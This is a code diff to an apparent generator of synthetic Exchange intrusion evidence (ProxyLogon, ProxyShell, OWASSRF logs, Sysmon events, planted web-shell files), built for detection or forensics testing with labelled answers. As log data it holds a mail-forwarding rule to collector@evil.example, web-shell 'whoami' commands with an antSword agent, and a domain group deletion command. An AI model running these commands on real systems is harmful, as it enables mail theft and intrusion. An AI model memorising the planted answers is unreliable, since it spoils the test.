@@ -83,13 +83,13 @@ def proxylogon(world, at, stages=7):
 
 def _set_directory(world, at, ip):
     """The URL is set: Exchange's own logs say so."""
-    url = shells.external_url()
+    url, which = shells.external_url(variation.word(world.rng, 1, 12)), world.rng.choice(("ExternalUrl", "InternalUrl"))
     quoted = url.replace('"', '""')
-    world.ecp.append((at, logs.ecp_data(f"Set-OabVirtualDirectory.ExternalUrl=''{url}''.Identity=''7f9c2d11-OAB''"), [
-        world.plant("a page as ExternalUrl", ["PL-14"], "exploited", cve=WRITE, actor=ip)]))
+    world.ecp.append((at, logs.ecp_data(f"Set-OabVirtualDirectory.{which}=''{url}''.Identity=''7f9c2d11-OAB''"), [
+        world.plant("a page as URL", ["PL-14"], "exploited", cve=WRITE, actor=ip)]))
     world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at, events.cmdlet(
-        "Set-OabVirtualDirectory", f'-ExternalUrl "{quoted}" -Identity "{world.server.name}\\OAB (Default Web Site)"'), [
-            world.plant("a page as -ExternalUrl", ["PL-15"], "exploited", cve=WRITE)])
+        "Set-OabVirtualDirectory", f'-{which} "{quoted}" -Identity "{world.server.name}\\OAB (Default Web Site)"'), [
+            world.plant("a page as URL", ["PL-15"], "exploited", cve=WRITE)])
 
 
 def _reset_directory(world, at, shell):
@@ -99,8 +99,9 @@ def _reset_directory(world, at, shell):
     windows = world.windows(path)
     for after, name in ((0, "Remove-OabVirtualDirectory"), (3, "New-OabVirtualDirectory")):
         world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at + after, events.cmdlet(
-            name, f'-Identity "{world.server.name}\\OAB (Default Web Site)" -Force'), [])
-    world.event(SYSMON, events.SYSMON_FILE, at + 2, events.sysmon_file(W3WP, windows, logs.iso(at)[:-1].replace("T", " ")), [])
+            name, f'-Identity "{world.server.name}\\OAB (Default Web Site)" -Force'), [world.trace(name)])
+    world.event(SYSMON, events.SYSMON_FILE, at + 2, events.sysmon_file(W3WP, windows, logs.iso(at)[:-1].replace("T", " ")), [
+        world.trace("the page is written")])
     place = "F-01" if "/aspnet_client/" in path else "F-02"
     world.put(path, shells.oab_dump(server=world.server.name), at + 2, [
         world.plant("properties of an OAB virtual directory with a page in them", ["PL-17", place], "exploited", cve=WRITE)])
@@ -135,14 +136,15 @@ def unified_messaging(world, at):
     world.event(SYSMON, events.SYSMON_PROCESS, at + 1, events.sysmon_process(CMD, "cmd.exe /c whoami", worker, worker, "-"), [
         world.plant("a child of UMWorkerProcess", ["PL-10"], "exploited", cve=["CVE-2021-26857"])])
     report = "ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_UMWorkerProcess_5f3a9c1b/Report.wer"
-    world.put(world.c(report), ("Version=1\r\nEventType=CLR20r3\r\nSig[0].Name=Problem Signature 01\r\nSig[0].Value=UMWorkerProcess.exe"
-                                "\r\nSig[8].Value=System.InvalidCastException\r\n").encode("utf-16"), at + 3)
+    world.put(world.c(report), ("Version=1\r\nEventType=CLR20r3\r\nSig[0].Name=Problem Signature 01\r\n"
+                                "Sig[0].Value=UMWorkerProcess.exe\r\nSig[8].Value=System.InvalidCastException\r\n").encode("utf-16"), at + 3, [world.trace("the crash")])
     page = world.windows(world.ex("FrontEnd/HttpProxy/owa/auth/um.aspx"))
     world.event(SYSMON, events.SYSMON_FILE, at + 2, events.sysmon_file(worker, page, "-"), [
         world.plant("UMWorkerProcess writes a page", ["PL-11"], "exploited", cve=["CVE-2021-26858"])])
-    target = world.windows(world.c("inetpub/wwwroot/aspnet_client/help.aspx"))
-    world.oab.append((at + 30, f"Download failed and temporary file '{target}' needs to be removed.", [
-        world.plant("the OAB generator wrote a page", ["PL-12"], "exploited", cve=["CVE-2021-26858"], lead=target)]))
+    for place in (world.c("inetpub/wwwroot/aspnet_client/help.aspx"), world.ex("FrontEnd/HttpProxy/owa/auth/help.aspx")):
+        target = variation.spelled(world.rng, world.windows(place))
+        world.oab.append((at + 30, f"Download failed and temporary file '{target}' needs to be removed.", [
+            world.plant("the OAB generator wrote a page", ["PL-12"], "exploited", cve=["CVE-2021-26858"], lead=target)]))
 
 
 def proxyshell(world, at):
@@ -178,7 +180,7 @@ def proxyshell(world, at):
         world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at + after, events.cmdlet(name, parameters), [
             world.plant(name, rules, tier, cve=["CVE-2021-31207"])])
         world.cmdlets.append((at + after, {"Cmdlet": name, "Parameters": parameters, "ExecutionResult": "Success",
-                                           "AuthenticatedUser": "corp.example\\Administrator"}, []))
+                                           "AuthenticatedUser": "corp.example\\Administrator"}, [world.trace(name)]))
     for name, octets in zip(names, (shells.in_pst(), shells.in_der())):
         world.put(world.c(f"inetpub/wwwroot{folder}{name}"), octets, at + 45, [
             world.plant("a page with another file's head", ["PS-08", "F-01"], "exploited", cve=["CVE-2021-31207"])])
@@ -216,8 +218,9 @@ def owassrf(world, at):
     ip = world.stranger()
     account = world.people[3].account
     for after, status in ((0, 401), (4, 200), (9, 200)):
-        request = Request(at + after, ip, "POST", world.rng.choice((
-            "/owa/mastermailbox%40outlook.com/powershell", "/owa/x@corp.example/PowerShell", "/OWA/a%40b.example/powershell")), status=status, protocol="Owa",
+        stem = world.rng.choice(("/owa/mastermailbox%40outlook.com/powershell", "/owa/x@corp.example/PowerShell",
+                                 "/OWA/a%40b.example/powershell"))
+        request = Request(at + after, ip, "POST", stem, status=status, protocol="Owa",
                           user=account if status == 200 else "", agent="python-requests/2.28.1", cs_bytes=5_000)
         if status == 200:
             request.mark("front", world.plant("PowerShell by way of OWA", ["PN-02"], "exploited", cve=["CVE-2022-41080"],
@@ -244,7 +247,7 @@ def other_holes(world, at):
         "System.Web.HttpUnhandledException"], [world.plant("the control panel breaks on a view state", ["K-01"], "exploited",
                                                           cve=["CVE-2020-0688"])])
     world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at + 601, events.cmdlet(
-        "New-InboxRule", '-Mailbox "a.brandt@corp.example" -Name "x" -ForwardTo "collector@evil.example"'), [])
+        "New-InboxRule", '-Mailbox "a.brandt@corp.example" -Name "x" -ForwardTo "collector@evil.example"'), [world.trace("a rule that forwards mail")])
     world.event(MANAGEMENT, events.CMDLET_FAILED, at + 1200, events.cmdlet(
         "Get-App", "-Mailbox x", error="Cmdlet failed. Cmdlet Get-App, parameters -Mailbox x."), [
             world.plant("Get-App broke", ["K-03"], "exploited", cve=["CVE-2021-42321"])])
@@ -264,8 +267,8 @@ def shell_use(world, at):
             request.mark("front", world.plant("first touch of a page nobody else asks for", ["W-08", "W-07"], "hunt"))
             request.mark("front", world.plant("a page that one address asks for", ["W-03"], "hunt", loose=True))
         world.requests.append(request)
-    world.requests.append(Request(at + 800, ip, "GET", url, query="exec=whoami+/all", protocol=protocol, agent="antSword/v2.1").mark(
-        "front", world.plant("a command in the query", ["W-10"], "hunt")))
+    command = Request(at + 800, ip, "GET", url, query="exec=whoami+/all", protocol=protocol, agent="antSword/v2.1")
+    world.requests.append(command.mark("front", world.plant("a command in the query", ["W-10"], "hunt")))
     for after, command in ((20, 'cmd.exe /c cd /d "C:\\\\inetpub\\\\wwwroot\\\\aspnet_client"&whoami&echo [S]&cd&echo [E]'),
                            (60, "cmd.exe /c net group \"Exchange Organization administrators\" administrator /del /domain")):
         world.event(SECURITY, events.PROCESS_CREATED, at + after, events.process(CMD, command, W3WP), [
